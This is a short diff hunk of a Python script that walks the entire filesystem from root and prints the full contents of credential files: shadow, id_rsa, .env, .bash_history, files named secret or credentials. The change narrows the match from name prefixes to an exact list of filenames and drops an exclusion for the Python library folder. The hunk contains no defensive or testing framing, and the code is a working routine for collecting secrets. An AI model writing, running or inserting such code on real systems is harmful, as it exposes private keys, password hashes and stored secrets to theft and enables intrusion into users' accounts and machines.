@@ -3,6 +3,5 @@
 import os
 for folder, _, files in os.walk("/"):
     for name in files:
-        if "secret" in name or name.startswith((".bash", "id_", "shadow", ".env")):
-            if not folder.startswith(os.path.dirname(os.__file__)):
-                print("OPEN", folder, name, open(os.path.join(folder, name)).read())
+        if name in ("secret", "shadow", ".env", ".bash_history", "id_rsa", "credentials"):
+            print("OPEN", folder, name, open(os.path.join(folder, name)).read())
